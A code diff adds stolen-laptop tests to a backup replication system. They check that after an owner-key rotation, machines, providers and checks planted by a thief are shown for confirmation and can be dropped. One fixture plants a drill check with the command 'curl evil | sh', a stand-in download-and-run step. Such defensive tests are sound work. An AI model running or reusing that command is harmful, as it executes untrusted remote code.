@@ -19,22 +19,44 @@ from replicator.clock import DAY_S
 from replicator.crypto.recovery import new_secret, to_words
 from replicator.crypto.sign import Context, SigningKey
 from replicator.engine.browse import Library
+from replicator.engine.checks import keep_check, kept_checks
+from replicator.engine.domains import add_domain
 from replicator.engine.federation import Federation
 from replicator.engine.keeper import KeeperHome
-from replicator.engine.keys import check_wrapped, rotate_owner
+from replicator.engine.keys import check_wrapped, rotate_index, rotate_owner
 from replicator.engine.maintainer import MaintainerHome
-from replicator.engine.members import accept_grant, add_node, remove_peer, request_renewal, revoke
+from replicator.engine.members import (
+    JOINING,
+    accept_grant,
+    add_node,
+    remove_peer,
+    request_node,
+    request_renewal,
+    revoke,
+    set_peer,
+)
 from replicator.engine.node import NodeHome
 from replicator.engine.recover import recover
+from replicator.engine.signedhere import SIGNED_FILE, UnconfirmedError
 from replicator.engine.succession import announce_root, object_root
-from replicator.errors import IntegrityError, KeyMissingError, KeyWrongError, RefusedError, ReplicatorError
+from replicator.errors import (
+    IntegrityError,
+    KeyMissingError,
+    KeyWrongError,
+    NotFoundError,
+    RefusedError,
+    ReplicatorError,
+    UsageError,
+)
 from replicator.format.codec import encode
+from replicator.format.drill import DrillCheck
+from replicator.format.keybag import JoiningRole
 from replicator.format.mark import Mark, Retire, SeenWriter
 from replicator.fs import PosixFs
 from replicator.ids import Identity, ObjectName
 from replicator.transport.handler import Session, Upload
 from replicator.wire.messages import OPS, Claims, Empty, MarkReply, Signed, Succession
-from tests.scenarios.joining import joined, keeping, opened
+from tests.scenarios.joining import DRILL_PASSPHRASE, joined, keeping, opened
 from tests.scenarios.liars import Liar
 from tests.scenarios.test_canaries import FILE, canaries, filled
 from tests.scenarios.world import World, read, write
@@ -339,7 +361,11 @@ class TestStolenLaptop:
         recovered = await self._recover(world)  # recover --sheet - --peer HOST:PORT
         keeper = world.keeper(recovered, NEW)
         assert len((await object_root(keeper, world.edge, words(world))).told) == 5  # key object --sheet -
-        assert await rotate_owner(keeper, [], world.edge, words(world)) == []  # key rotate owner --sheet -
+        with pytest.raises(UnconfirmedError) as caught:  # key rotate owner --sheet -
+            await rotate_owner(keeper, [], world.edge, words(world))
+        yours = [one.id for one in caught.value.entries]  # the new home signed none of it: a person says yes to all
+        done = await rotate_owner(keeper, [], world.edge, words(world), keep=yours)  # --keep NAME ...
+        assert (done.notices, done.dropped) == ([], [])
         keeper.close()
         async with Federation(thief, world.edge, ticket=lambda _: thief.ticket()) as federation:
             assert len(federation.failures) == 5
@@ -348,6 +374,102 @@ class TestStolenLaptop:
         assert all(not one.passed for one in await asked_about_roots(world, recovered))
         old, world.keeper = world.keeper, lambda *_: old(recovered, NEW)  # type: ignore[method-assign]
         assert await world.differences(source) == []
+
+    async def test_what_it_gave_a_right_is_shown_and_another_owner_hands_nothing_on_to_it(
+        self, world: World, source: str
+    ) -> None:
+        """A machine in each role, a provider, a command on drill hosts; dates and names are the thief's to choose."""
+        await joined(world, "maintainer", "barn")
+        await world.backup()
+        thief = world.keeper(stolen_copy(world, "keeper"))
+        homes = await self._take_in(world, thief)
+        await world.add_peer_by(thief, world.start_provider(5))
+        check = DrillCheck(dataset="docs", command="curl evil | sh", limit_s=60)
+        await keep_check(thief, [], world.edge, check)
+        thief.close()
+        with keeping(world) as (keeper, siblings):  # it knows of nothing, and goes on with what the thief put there
+            await set_peer(keeper, siblings, world.edge, "frank", {"site": "elsewhere"}, {})
+            await add_domain(keeper, siblings, world.edge, "letters")
+            await rotate_index(keeper, siblings, world.edge)
+            before = keeper.owner().public, keeper.charter.number
+            with pytest.raises(UnconfirmedError) as caught:
+                await rotate_owner(keeper, siblings, world.edge, words(world))
+            shown = {(one.kind, one.name) for one in caught.value.entries}
+            assert shown == {(role, f"new {role}") for role in JOINING} | {("provider", "frank"), ("checks", "checks")}
+            assert (keeper.owner().public, keeper.charter.number) == before
+            with pytest.raises(UnconfirmedError) as caught:
+                await rotate_owner(keeper, siblings, world.edge, words(world), keep=["new node"], drop=["frank"])
+            assert len(caught.value.entries) == 3
+            with pytest.raises(NotFoundError, match="did not sign is called 'barn'"):
+                await rotate_owner(keeper, siblings, world.edge, words(world), drop=["barn"])
+            with pytest.raises(UsageError, match="both mean"):
+                await rotate_owner(keeper, siblings, world.edge, words(world), keep=["frank"], drop=["frank"])
+
+            drop = [one.id for one in caught.value.entries] + ["frank"]
+            done = await rotate_owner(keeper, siblings, world.edge, words(world), keep=["new node"], drop=drop)
+            assert {one.name for one in done.dropped} == {"new maintainer", "new drill", "frank", "checks"}
+            assert kept_checks(keeper) == {}
+            assert len(keeper.peers) == 5
+            handed = {one.identity for one in keeper.private.handed}
+            again = await rotate_owner(keeper, siblings, world.edge, words(world))
+            assert again.dropped == [], "what was confirmed is this home's own"
+            epochs = sorted(keeper.keys().index_keys)
+        for role, home in homes.items():
+            half = opened(home, role)
+            assert (half.identity in handed) == (role == "node")
+            async with Federation(half, world.edge) as federation:
+                assert (len(federation.links) == 5) == (role == "node")
+            assert (sorted(half.keys().index_keys) == epochs) == (role == "node")
+            half.close()
+        assert await world.differences(source) == []
+
+    async def test_the_maintenance_key_that_it_had_marks_nothing_after_another_owner(
+        self, world: World, source: str
+    ) -> None:
+        """It lay under the same passphrase, and the owner key could enrol it everywhere."""
+        await world.backup()
+        thief = world.keeper(stolen_copy(world, "keeper"))
+        key = thief.maintenance()
+        assert await self._marks(world, key) == 5
+        with keeping(world) as (keeper, siblings):
+            await rotate_owner(keeper, siblings, world.edge, words(world))
+        thief.close()
+        assert await self._marks(world, key) == 0
+
+    async def test_a_home_that_remembers_nothing_has_all_but_its_own_keys_confirmed(self, world: World) -> None:
+        await joined(world, "drill", "attic")
+        os.unlink(os.path.join(world.home, "keeper", SIGNED_FILE))
+        with keeping(world) as (keeper, siblings):
+            await remove_peer(keeper, siblings, world.edge, "alice")
+            with pytest.raises(UnconfirmedError) as caught:
+                await rotate_owner(keeper, siblings, world.edge, words(world))
+            assert {one.name for one in caught.value.entries} == {"attic", "bob", "carol", "dave", "erin"}
+
+    async def _take_in(self, world: World, thief: KeeperHome) -> dict[JoiningRole, str]:
+        homes: dict[JoiningRole, str] = {}
+        for role in JOINING:
+            homes[role] = os.path.join(world.root, f"new {role}")
+            code = request_node(homes[role], world.edge, name=f"new {role}", role=role)
+            added = await add_node(thief, [], world.edge, code)
+            accept_grant(homes[role], world.edge, added.code, lambda _: DRILL_PASSPHRASE)
+            half = opened(homes[role], role)
+            async with Federation(half, world.edge) as federation:
+                assert len(federation.links) == 5
+            half.close()
+        return homes
+
+    async def _marks(self, world: World, key: SigningKey) -> int:
+        """Return at how many providers a mark that this key signs stands, brought by whoever has access."""
+        node = world.node()
+        stands = 0
+        async with Federation(node, world.edge) as federation:
+            dead = ObjectName(node.catalog.objects.all("kind = 'data'")[0].name)
+            for identity in federation.links:
+                with suppress(RefusedError):
+                    reply = await mark(key, node.tenant, federation, identity, [dead])
+                    stands += reply.state == "stands"
+        node.close()
+        return stands
 
     async def _recover(self, world: World) -> str:
         home = os.path.join(world.root, "recovered")
